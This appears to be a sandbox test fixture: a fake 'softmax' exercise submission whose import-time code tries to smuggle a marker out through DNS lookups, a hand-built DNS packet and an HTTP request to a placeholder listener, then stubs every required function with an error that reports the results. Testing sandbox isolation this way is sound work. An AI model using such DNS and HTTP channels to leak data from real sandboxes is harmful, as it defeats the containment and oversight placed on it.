# verdict: failed
# exercise: exercise07_softmax
# example: DNS
# Asks for a name whose first part is what it wants to tell: by the resolver, and by a query of its own.

import socket
import struct
import urllib.error
import urllib.request

TOLD = []
query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\x06secret\x07example\x00" + struct.pack(">2H", 1, 1)


def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(query, ("127.0.0.1", @LISTENER@))
        return "MARK" + "ER{asked}"


for way in (
    lambda: "MARK" + f"ER{{{socket.getaddrinfo('localhost.localdomain.invalid', 80)}}}",
    lambda: "MARK" + f"ER{{{socket.gethostbyname('secret.invalid')}}}",
    lambda: "MARK" + f"ER{{{urllib.request.urlopen('http://127.0.0.1:@LISTENER@/', timeout=0.5).status}}}",
    ask,
):
    try:
        TOLD.append(way())
    except OSError as error:
        TOLD.append(type(error).__name__)


def attack(*_args, **_kwargs):
    raise RuntimeError(f"{TOLD}")


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
